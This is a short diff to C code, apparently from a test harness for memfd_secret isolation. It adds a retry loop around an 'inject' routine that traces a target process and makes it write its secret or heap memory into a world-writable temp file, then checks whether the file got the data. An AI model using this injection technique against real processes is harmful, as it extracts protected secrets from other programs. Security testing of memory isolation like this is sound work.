@@ -67,24 +67,35 @@ static long make_it_write(const struct attack *a, pid_t pid, const char *path, u
 	return written;
 }
 
+static int inject_once(struct attack *a, unsigned long long secret, const char *path, int fd)
+{
+	pid_t pid = a->target.pid;
+	int result = trace(pid, a->row->number);
+	long written;
+
+	if (result != 0)
+		return result;
+	written = make_it_write(a, pid, path, secret);
+	untrace(pid);
+	return written < 0 ? (int)written : saw_file(a, fd);
+}
+
+/* Where the thread is stopped is chance: a call that is about to be made again comes before ours. */
 static int inject(struct attack *a)
 {
 	unsigned long long secret = a->row->text[0] == 's' ? a->target.secretmem : a->target.heap;
 	char path[] = "/tmp/attack.XXXXXX";
-	pid_t pid = a->target.pid;
-	long written;
-	int fd, result;
+	int fd, result = -ENODATA;
 
 	if (secret == 0)
 		return not_here(a, "no memfd_secret");
 	fd = mkstemp(path);
 	if (fd < 0 || fchmod(fd, 0666) < 0)
 		return not_here(a, "no file");
-	result = trace(pid, a->row->number);
-	if (result == 0) {
-		written = make_it_write(a, pid, path, secret);
-		untrace(pid);
-		result = written < 0 ? (int)written : saw_file(a, fd);
+	for (int i = 0; result == -ENODATA && i < PATIENCE; i++) {
+		if (i > 0)
+			moment(STEP_MS);
+		result = inject_once(a, secret, path, fd);
 	}
 	(void)unlink(path);
 	return result;
